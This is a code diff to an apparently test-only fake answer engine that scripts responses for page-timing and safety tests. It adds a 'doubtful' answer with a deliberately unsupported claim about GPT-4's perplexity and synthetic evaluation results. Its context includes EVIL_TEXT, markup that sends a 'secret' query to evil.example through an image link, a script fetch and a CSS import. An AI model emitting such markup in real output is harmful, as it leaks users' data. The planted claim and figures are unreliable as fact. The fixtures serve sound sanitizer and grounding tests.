@@ -1,14 +1,14 @@
 """An engine with a script instead of a model, for tests of the page that need exact timing.
 
 A question decides what happens: "slow ..." writes a word at a time until it is stopped, "nothing ..." is refused,
-"broken ..." fails, "crash ..." fails in a way nobody foresaw, "evil ..." tries to load what it must not; everything
-else is answered at once.
+"broken ..." fails, "crash ..." fails in a way nobody foresaw, "evil ..." tries to load what it must not, "doubtful
+..." says what its quotes do not; everything else is answered at once.
 """
 
 import json
 import time
 from collections.abc import Iterator
-from dataclasses import dataclass, field
+from dataclasses import dataclass, field, replace
 from pathlib import Path
 
 from app.types import (
@@ -117,6 +117,15 @@ FIRST = note(1, "Perplexity says how **unsure** a model is about the next token.
 SECOND = note(2, "It falls when the context gets longer.")
 ANSWER_TEXT = "Perplexity says how unsure a model is about the next token.[1] It falls when the context gets longer.[2]"
 
+DOUBTFUL_TEXT = (
+    "The perplexity of GPT-4 is 60.[1] It falls when the context gets longer.[2] Most teams do not measure it."
+)
+DOUBTFUL = (
+    Sentence(0, 33, (1,), ("GPT-4", "60")),
+    Sentence(34, 75, (2,)),
+    Sentence(76, len(DOUBTFUL_TEXT), (), ("unsupported",)),
+)
+
 
 def write_index(index_dir: Path, name: str = "v1") -> None:
     """A version with the document in it, as far as the pages read one, and makes it live."""
@@ -153,6 +162,28 @@ def write_index(index_dir: Path, name: str = "v1") -> None:
     (index_dir / "CURRENT").write_text(name + "\n", encoding="utf-8")
 
 
+def write_results(folder: Path) -> None:
+    """Three evaluations, as `python -m evals run` leaves them."""
+    folder.mkdir(parents=True)
+    runs = [
+        {
+            "name": "own",
+            "split": "dev",
+            "created": f"2026-01-0{day}T03:04:05+00:00",
+            "version": f"v{day}",
+            "measures": {"R@1": found - 0.2, "R@5": found, "RR@10": found - 0.1},
+            "intervals": {"R@5": [found - 0.1, found + 0.1]},
+            "n": {"measured": 96},
+            "refusal": {"auc": 0.95, "unanswerable_refused": 0.8, "answerable_refused": 0.05},
+            "latency_ms": {"p50": 4.2, "p95": 9.0},
+            "per_kind": {"fact": {"n": 40, "measures": {"R@5": found, "RR@10": 0.8}}},
+        }
+        for day, found in enumerate((0.7, 0.75, 0.8), start=1)
+    ]
+    (folder / "history.jsonl").write_text("".join(f"{json.dumps(run)}\n" for run in runs), encoding="utf-8")
+    (folder / "own-dev.json").write_text(json.dumps(runs[-1]), encoding="utf-8")
+
+
 EVIL_TEXT = """![leak](https://evil.example/?q=secret) <img src="https://evil.example/x"> [1]
 
 <script>fetch("https://evil.example/y")</script> [follow](https://evil.example/z) <style>@import "https://evil.example/s"</style>
@@ -187,6 +218,8 @@ class FakeEngine:
                 raise ZeroDivisionError("secret detail")
             case "evil":
                 yield Done(_answer(EVIL_TEXT))
+            case "doubtful":
+                yield Done(replace(_answer(DOUBTFUL_TEXT), sentences=DOUBTFUL, writer="claude", dropped=2))
             case "slow":
                 yield from self._slowly()
             case _:
